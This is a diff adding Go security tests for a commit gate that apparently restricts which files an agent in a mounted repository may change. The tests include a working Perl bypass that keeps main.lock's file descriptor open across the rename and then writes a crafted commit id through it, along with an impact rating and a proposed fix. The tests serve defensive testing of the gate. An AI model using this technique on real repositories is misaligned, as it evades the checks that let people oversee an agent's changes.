@@ -100,3 +100,55 @@ func TestGateAttackDefaultRangeFromAgentRemoteRef(t *testing.T) {
 		t.Errorf("HOLE: main holds %s changing README.md outside src/**, and the default intentfs check exits 0:\n%s", x[:12], chk)
 	}
 }
+
+// craftInMount makes, as the agent in the mount, a commit on top of HEAD
+// that changes README.md (outside src/**) to content never written
+// through the mount, without moving any ref; the index is left clean.
+func craftInMount(t *testing.T, mnt string) string {
+	t.Helper()
+	c := gitAs(t, mnt, "blob=$(echo pwned | git hash-object -w --stdin) && git update-index --cacheinfo 100644,$blob,README.md && git commit-tree -p HEAD -m tidy $(git write-tree)")
+	gitAs(t, mnt, "git reset -q HEAD -- README.md")
+	return c
+}
+
+// mainHolds reports whether the source's main names commit (the attack's
+// write is synchronous: nothing to wait for).
+func mainHolds(t *testing.T, src, commit string) bool {
+	t.Helper()
+	out, _ := gitTry(src, "cat .git/refs/heads/main 2>/dev/null; git rev-parse -q --verify refs/heads/main")
+	return strings.Contains(out, commit)
+}
+
+// TestGateAttackRefWrittenThroughFdKeptOpenAcrossRename.
+//
+// Attack: git's own way to move a branch is judged at the rename of
+// main.lock onto main, from the content the lock holds then. The agent
+// keeps the lock's file descriptor open, renames it onto the ref with the
+// current (unchanged, so accepted) commit id, then writes the crafted
+// commit id through the still-open descriptor:
+//
+//	perl: sysopen main.lock; syswrite HEAD's id; rename main.lock main;
+//	      sysseek 0; syswrite <crafted>
+//
+// The write goes to the inode that is now refs/heads/main; nothing judges
+// it (the handle was opened as a .lock, which is not a ref).
+//
+// Impact: the commit gate is bypassed for any commit made in the mount.
+// Severity: HIGH for the gate. Fix: when a rename makes a file a ref,
+// refuse further writes through handles opened before (re-check the
+// handle's current path on write, or refuse the rename while the source
+// file is open for writing).
+func TestGateAttackRefWrittenThroughFdKeptOpenAcrossRename(t *testing.T) {
+	_, e, _, base := gateRepo(t)
+	crafted := craftInMount(t, e.mnt)
+	script := `perl -e 'use Fcntl; my ($old, $new) = @ARGV;
+sysopen(my $fh, ".git/refs/heads/main.lock", O_WRONLY|O_CREAT|O_EXCL, 0644) or die "open: $!";
+syswrite($fh, "$old\n") or die "write: $!";
+rename(".git/refs/heads/main.lock", ".git/refs/heads/main") or die "rename: $!";
+sysseek($fh, 0, 0); syswrite($fh, "$new\n") or die "second write: $!"; close($fh) or die "close: $!";' ` + base + " " + crafted
+	out, err := gitTry(e.mnt, script)
+	t.Logf("write through the lock's descriptor after the rename: err %v\n%s", err, out)
+	if mainHolds(t, e.src, crafted) {
+		t.Errorf("HOLE: main moved from %s to the unjudged crafted commit %s by writing through the lock's descriptor after the judged rename", base[:12], crafted[:12])
+	}
+}
